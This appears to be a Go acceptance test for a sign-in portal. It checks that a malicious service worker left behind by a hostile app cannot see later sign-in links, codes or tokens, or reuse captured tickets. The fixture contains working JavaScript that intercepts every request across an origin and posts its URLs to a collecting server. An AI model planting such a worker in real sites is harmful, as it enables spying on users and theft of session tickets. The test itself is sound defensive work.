package acceptance

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// hostileApp is an app whose scripts are an attacker's, until it is mended.
type hostileApp struct {
	mended atomic.Bool
	lair   *httptest.Server // where its scripts send what they learn

	mu   sync.Mutex
	loot []string
}

func newHostileApp(t *testing.T) *hostileApp {
	a := new(hostileApp)
	a.lair = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		a.mu.Lock()
		defer a.mu.Unlock()
		a.loot = append(a.loot, string(body))
	}))
	t.Cleanup(a.lair.Close)
	return a
}

// learned is what its scripts have sent so far, one a line.
func (a *hostileApp) learned() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.loot, "\n")
}

// worker sees each request of the whole origin, and has each page come as it is; tickets it
// keeps for itself if their request says so.
func (a *hostileApp) worker() string {
	return `oninstall = () => skipWaiting();
onactivate = e => e.waitUntil(clients.claim());
onfetch = e => {
	e.waitUntil(fetch("` + a.lair.URL + `", { method: "POST", mode: "no-cors", body: e.request.mode + " " + e.request.url + " " + e.request.referrer }));
	if (e.request.url.includes("ticket=") && e.request.url.includes("take-it")) return e.respondWith(new Response("taken"));
	if (e.request.mode === "navigate") e.respondWith(fetch(e.request));
};`
}

func (a *hostileApp) serve(w http.ResponseWriter, r *http.Request) {
	switch {
	case r.URL.Path == "/sw.js" && !a.mended.Load():
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Service-Worker-Allowed", "/")
		_, _ = io.WriteString(w, a.worker())
	case r.URL.Path == "/sw.js":
		http.NotFound(w, r) // which leaves the worker that there is
	default:
		showAsked(w, r)
	}
}

// settle has a page of the app leave its worker behind, for the whole origin.
func (b *tab) settle() {
	b.t.Helper()
	await(b.t, "the worker to have the page", func() bool {
		has, err := evaluate[bool](b, `navigator.serviceWorker.register("/sw.js", { scope: "/" }).then(() => !!navigator.serviceWorker.controller)`)
		return err == nil && has
	})
}

// A worker that an app once left in a browser sees no link and no code of later sign-ins.
func TestAWorkerOfAHostileAppSeesNoLinkAndNoCode(t *testing.T) {
	t.Parallel()
	app := newHostileApp(t)
	w := startFront(t, plan{onLoopback: true, serve: app.serve})
	p := w.profile()
	first := w.tab(p)
	first.open(w.ask(first, w.app+"/", "ada@example.com").link)
	first.arrives(w.app+"/", "ada@example.com")
	first.settle()

	first.open(w.portal + "/_doorpost/account")
	first.click("form:has([value=all]) button")
	first.awaitText("You are signed out")
	app.mended.Store(true)

	var messages []message
	for i, redeem := range []func(*tab, message){
		func(b *tab, m message) { b.open(m.link) },
		func(b *tab, m message) { b.typeInto("#code", m.code+"\r") },
	} {
		b, url := w.tab(p), fmt.Sprintf("%s/again?%d", w.app, i)
		m := w.ask(b, url, "ada@example.com")
		redeem(b, m)
		b.arrives(url, "ada@example.com")
		messages = append(messages, m)
		b.open(w.portal + "/_doorpost/sign-out")
		b.click("form button")
		b.awaitText("You are signed out")
	}
	await(t, "the worker to tell of the last page", func() bool { return strings.Contains(app.learned(), "navigate "+w.app+"/again?1") })
	learned := app.learned()
	if !strings.Contains(learned, "ticket=") {
		t.Errorf("the worker saw no ticket: it is not as strong as it could be: %s", learned)
	}
	for _, m := range messages {
		for _, secret := range []string{m.token, m.code, "/_doorpost/link", "/_doorpost/code", "/_doorpost/check-mail", w.portal + "/_doorpost/account"} {
			if strings.Contains(learned, secret) {
				t.Errorf("the worker saw %s: %s", secret, learned)
			}
		}
	}

	// The tickets that it saw were used.
	for line := range strings.SplitSeq(learned, "\n") {
		if _, ticket, found := strings.Cut(line, w.app); found && strings.Contains(ticket, "ticket=") {
			ticket, _, _ = strings.Cut(ticket, " ")
			thief := w.visitor(w.app)
			thief.open("/") // for a hop
			if a := thief.open(ticket); a.location() == "/" || thief.who() != "" {
				t.Errorf("the ticket %s lets a thief in", ticket)
			}
		}
	}
}
